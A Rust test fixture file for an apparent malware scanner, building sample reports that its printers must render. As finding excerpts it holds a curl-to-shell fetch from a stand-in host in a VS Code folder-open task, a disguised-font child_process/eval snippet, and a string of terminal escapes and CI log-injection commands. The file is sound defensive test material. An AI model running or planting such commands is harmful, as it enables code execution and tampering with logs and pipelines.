//! Reports built by hand, for the tests of everything that prints one.

use lurescan::finding::{
    ChainStep, Confidence, Environment, Family, Finding, Gap, Layer, Pack, Report, Severity, Stats, Verdict,
};
use lurescan::signal::{Basis, Behaviour, Concealment, Evidence, GapReason, Limit, Moment};

fn stats(files: u64, bytes: u64) -> Stats {
    Stats { files, bytes, unpacked: 0, unpacked_bytes: 0, analysed: files, gaps: 0 }
}

fn base(target: &str, verdict: Verdict) -> Report {
    Report {
        schema: 1,
        engine: "0.1.0".into(),
        target: target.into(),
        sha256: "ab".repeat(32),
        verdict,
        findings: Vec::new(),
        suppressed: Vec::new(),
        around: Vec::new(),
        gaps: Vec::new(),
        stats: stats(3, 2_048),
        packs: vec![Pack {
            name: "rules".into(),
            digest: "0123456789abcdef".into(),
            entries: 1_204,
            date: Some("2026-10-30".into()),
            unread: 0,
            age_days: None,
        }],
        deterministic: true,
        overview: None,
        environment: Some(Environment {
            elapsed_ms: 45,
            threads: 2,
            sandbox: vec!["landlock: enforced".into(), "seccomp: enforced".into()],
            restarts: 0,
        }),
    }
}

pub fn evidence(line: u32, column: u32, excerpt: &str) -> Evidence {
    let span = 100..100 + excerpt.len();
    Evidence { span, line, column, label: String::new(), excerpt: excerpt.into() }
}

pub fn finding(rule: &str, path: &str, severity: Severity, decides: Verdict) -> Finding {
    Finding {
        rule: rule.into(),
        severity,
        confidence: Confidence::High,
        decides,
        basis: Basis::Context,
        locator: path.into(),
        path: path.into(),
        root_path: path.into(),
        moment: None,
        message: "Something stands here".into(),
        primary: evidence(1, 1, ""),
        related: Vec::new(),
        behaviours: Vec::new(),
        concealments: Vec::new(),
        chain: Vec::new(),
        families: Vec::new(),
        also_at: Vec::new(),
        layers: vec![Layer { locator: path.into(), length: 512, sha256: "cd".repeat(32) }],
        fingerprint: "00112233445566778899aabbccddeeff".into(),
        content: String::new(),
        likeness: String::new(),
        git: None,
    }
}

pub fn gap(locator: &str, path: &str, reason: GapReason, matters: bool) -> Gap {
    Gap { locator: locator.into(), path: path.into(), reason, stage: "unpack".into(), matters }
}

/// Nothing found, all read.
pub fn pass() -> Report {
    base("honest", Verdict::Pass)
}

/// A folder-open task that fetches code, and a context finding.
pub fn block() -> Report {
    let mut report = base("job test", Verdict::Block);
    let mut task = finding("editor-autorun", ".vscode/tasks.json", Severity::Critical, Verdict::Block);
    task.basis = Basis::RemoteToShell;
    task.moment = Some(Moment::Open);
    task.message = "The task `env` starts by itself and gives a file from the network to a shell".into();
    task.primary = evidence(12, 20, "curl -s https://lure.invalid/x | sh");
    task.related =
        vec![Evidence { label: "and hides its terminal".into(), ..evidence(14, 9, "\"reveal\": \"never\"") }];
    task.behaviours = vec![Behaviour::Fetches, Behaviour::Executes, Behaviour::Autostarts];
    task.concealments = vec![Concealment::HiddenWindow, Concealment::PerPlatform];
    task.chain = vec![
        step(".vscode/tasks.json", 8, "VS Code task (folderOpen)"),
        step(".vscode/tasks.json", 12, "gives a file from the network to a shell"),
    ];
    task.families = vec![Family {
        name: "Example Family".into(),
        source: "Example Labs".into(),
        date: "2026-01-15".into(),
        confidence: Confidence::High,
    }];
    let mut font = finding("disguised-script", "public/a.woff2", Severity::High, Verdict::Block);
    font.basis = Basis::StructuralTrick;
    font.moment = Some(Moment::Install);
    font.message = "A font that is JavaScript is started by a script".into();
    font.primary = evidence(1, 1, "require('child_process')⟨300 blanks⟩eval(x)");
    font.primary.span = 0..400;
    font.behaviours = vec![Behaviour::Executes, Behaviour::Hides];
    font.also_at = vec!["public/b.woff2".into()];
    let mut low = finding("npm-lifecycle-exec", "package.json", Severity::Low, Verdict::Pass);
    low.message = "A lifecycle script is declared".into();
    report.findings = vec![task, font, low];
    report
}

pub fn step(path: &str, line: u32, what: &str) -> ChainStep {
    ChainStep { locator: path.into(), path: path.into(), line, column: 5, what: what.into(), excerpt: String::new() }
}

/// Something that a person has to judge.
pub fn review() -> Report {
    let mut report = base("tool.zip", Verdict::Review);
    let mut inner = finding("js-obfuscated", "package/i.js", Severity::Medium, Verdict::Review);
    inner.basis = Basis::PartOfChain;
    inner.locator = "tool.zip!/app/p.tgz!/package/i.js".into();
    inner.root_path = "tool.zip".into();
    inner.moment = Some(Moment::Unknown);
    inner.message = "The program hides its meaning".into();
    inner.primary = evidence(3, 14, "_0x12ab(0x1f)");
    inner.behaviours = vec![Behaviour::Hides];
    inner.layers = ["tool.zip", "tool.zip!/app/p.tgz", "tool.zip!/app/p.tgz!/package/i.js"]
        .map(|locator| Layer { locator: locator.into(), length: 512, sha256: "cd".repeat(32) })
        .into();
    inner.chain = vec![ChainStep {
        locator: inner.locator.clone(),
        path: inner.path.clone(),
        line: 3,
        column: 14,
        what: inner.message.clone(),
        excerpt: inner.primary.excerpt.clone(),
    }];
    report.findings = vec![inner];
    report.stats.unpacked = 14;
    report.stats.unpacked_bytes = 88_400;
    report
}

/// Nothing found, and not all read.
pub fn incomplete() -> Report {
    let mut report = base("archive", Verdict::Incomplete);
    report.gaps = vec![
        gap("a.zip!/run.exe", "run.exe", GapReason::Encrypted, true),
        gap("big.js", "big.js", GapReason::Limit(Limit::ParseBytes), true),
        gap("disk.iso", "disk.iso", GapReason::Unsupported("ISO 9660 image".into()), true),
    ];
    report.gaps.extend(
        (0..12).map(|n| gap(&format!("lib/{n}"), &format!("lib/{n}"), GapReason::Absent("submodule".into()), false)),
    );
    report.stats.gaps = report.gaps.len() as u64;
    report.deterministic = false;
    report
}

/// Every text of the target tries to break out: of the terminal, of a CI log, of a SARIF message.
pub fn hostile() -> Report {
    let evil = "\u{1b}[2J\u{9b}31m\u{202e}\n::set-env name=X::1\n##vso[task.setvariable]y";
    let mut report = base(&format!("::warning::{evil}"), Verdict::Block);
    let mut found = finding("editor-autorun", &format!("::add-mask::{evil}.js"), Severity::Critical, Verdict::Block);
    found.basis = Basis::CompleteChain;
    found.moment = Some(Moment::Open);
    found.message = format!("{evil} [link](https://lure.invalid) {{0}}");
    found.primary = evidence(1, 1, evil);
    found.related = vec![Evidence { label: evil.into(), ..evidence(2, 1, evil) }];
    found.chain = vec![step(evil, 1, evil), step(evil, 2, evil)];
    found.also_at = vec![evil.into()];
    found.families =
        vec![Family { name: evil.into(), source: evil.into(), date: evil.into(), confidence: Confidence::Low }];
    report.findings = vec![found];
    report.gaps = vec![gap(evil, evil, GapReason::Malformed(evil.into()), true)];
    report
}

/// All of them.
pub fn all() -> Vec<Report> {
    vec![pass(), block(), review(), incomplete(), hostile()]
}
